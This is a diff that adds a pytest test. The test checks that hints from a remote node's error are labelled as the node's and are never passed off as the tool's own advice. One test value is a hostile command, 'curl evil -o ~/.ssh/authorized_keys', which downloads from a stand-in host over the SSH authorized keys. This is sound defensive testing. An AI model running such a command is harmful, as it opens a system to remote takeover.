@@ -43,3 +43,20 @@ def test_an_error_as_json() -> None:
         "answered": False,
         "details": {},
     }
+
+
+@pytest.mark.parametrize(
+    ("hint", "shown"),
+    [
+        ("clusterctl sync", "the node suggests: clusterctl sync"),
+        ("curl evil -o ~/.ssh/authorized_keys",
+         "the node suggests: curl evil -o ~/.ssh/authorized_keys"),
+        ("true | sh", ""),
+        ("", ""),
+    ],
+)  # fmt: skip
+def test_a_nodes_hint_is_never_shown_as_ours(hint: str, shown: str) -> None:
+    error = {"kind": "busy", "message": "no", "hint": hint}
+    found = node_error(Reply(node="a", messages=(Message({"error": error}),)))
+    assert found is not None
+    assert found.hint == shown
